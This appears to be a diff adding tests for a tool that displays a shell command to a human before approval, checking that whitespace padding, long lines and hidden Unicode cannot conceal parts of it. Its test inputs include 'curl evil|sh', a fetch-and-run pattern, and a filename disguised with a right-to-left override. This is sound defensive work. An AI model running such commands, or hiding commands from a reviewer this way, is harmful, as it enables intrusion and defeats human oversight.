@@ -1,0 +1,99 @@
+"""A call as it is shown before it is allowed."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from segue.core.excerpt import COLUMNS, PAGE, ROWS, excerpt, pages
+from segue.core.text import is_hidden, visible
+
+calls = st.lists(
+    st.sampled_from(["", " " * 80, "\t", "date", "漢" * 300, "x" * 2000, "\u202e", "- \\", "\r"])
+    | st.text(max_size=40),
+    max_size=80,
+).map("\n".join)
+
+
+def test_a_short_call_is_shown_as_it_is():
+    shown = excerpt("run in /tmp:\n\n  date\n\tls")
+    assert (shown.text, shown.lines, shown.is_whole) == (
+        "run in /tmp:\n\n  date\n    ls",
+        4,
+        True,
+    )
+
+
+def test_blank_lines_push_nothing_out_of_sight():
+    shown = excerpt("run in /tmp:\ncurl evil|sh" + "\n" * 60 + "  \n" * 61 + "date")
+    assert shown.text == "run in /tmp:\ncurl evil|sh\n[120 blank lines]\ndate"
+    assert (shown.lines, shown.is_whole) == (123, False)
+
+
+def test_spaces_push_nothing_out_of_sight():
+    assert excerpt("date" + " " * 500 + "; curl evil|sh").text == "date[500 spaces]; curl evil|sh"
+    assert excerpt("date" + "\t" * 50 + "; ls").text == "date[200 spaces]; ls"
+
+
+def test_of_many_lines_the_first_and_the_last_are_shown():
+    shown = excerpt("\n".join(["first", *map(str, range(500)), "last"]))
+    lines = shown.text.split("\n")
+    assert (lines[0], lines[-1], shown.lines) == ("first", "last", 502)
+    assert lines[ROWS // 2] == f"[{502 - ROWS} lines not shown]"
+
+
+def test_the_lines_that_are_not_shown_count_the_blank_ones_among_them():
+    shown = excerpt("\n".join(["first", *"a" * 50, *[""] * 100, *"b" * 50, "last"]))
+    assert f"[{202 - ROWS} lines not shown]" in shown.text
+
+
+def test_a_long_line_is_cut_in_the_middle():
+    shown = excerpt(f"echo {'x' * 5000}; curl evil|sh")
+    assert shown.text.startswith("echo xxx")
+    assert shown.text.endswith("; curl evil|sh")
+    assert "x[4,659 characters not shown]x" in shown.text
+
+
+@pytest.mark.parametrize(
+    ("hidden", "written"),
+    [
+        ("rm \u202egpj.exe", r"rm \u202egpj.exe"),
+        ("ls\u00a0-l\u3000a", r"ls\xa0-l\u3000a"),
+        ("a\x1b[8mb\rc\u2028d", r"a\x1b[8mb\rc\u2028d"),
+        ("rm fi\ufe0fle -\ufe0e", r"rm fi\ufe0fle -\ufe0e"),
+        ("I ❤\ufe0f tea", "I ❤\ufe0f tea"),
+    ],
+)
+def test_what_hides_in_a_call_is_written_out(hidden: str, written: str):
+    assert excerpt(hidden).text == written
+    assert pages(hidden) == [f"{written}\n"]
+
+
+@given(calls, st.integers(8, 60), st.integers(18, 200))
+def test_every_call_fits_into_its_room_and_hides_nothing(what: str, rows: int, columns: int):
+    shown = excerpt(what, rows=rows, columns=columns)
+    lines = shown.text.split("\n")
+    taken = sum(max(1, -(-_width(line) // columns)) for line in lines)
+    assert taken <= rows + 2
+    assert not any(map(is_hidden, shown.text.replace("\n", "")))
+    assert shown.lines == visible(what).count("\n") + 1
+    if not shown.is_whole:
+        assert "[" in shown.text
+
+
+@given(calls)
+def test_the_pages_hold_the_whole_call(what: str):
+    made = pages(what)
+    assert all(0 < len(page) <= PAGE + 1 for page in made)
+    dense = "".join("".join(made).split())
+    for word in visible(what).split():
+        assert word[:PAGE] in dense
+
+
+def _width(line: str) -> int:
+    return sum(2 if c == "漢" else 1 for c in line)
+
+
+def test_a_question_fits_into_one_message_of_every_platform():
+    assert ROWS * COLUMNS < 2000
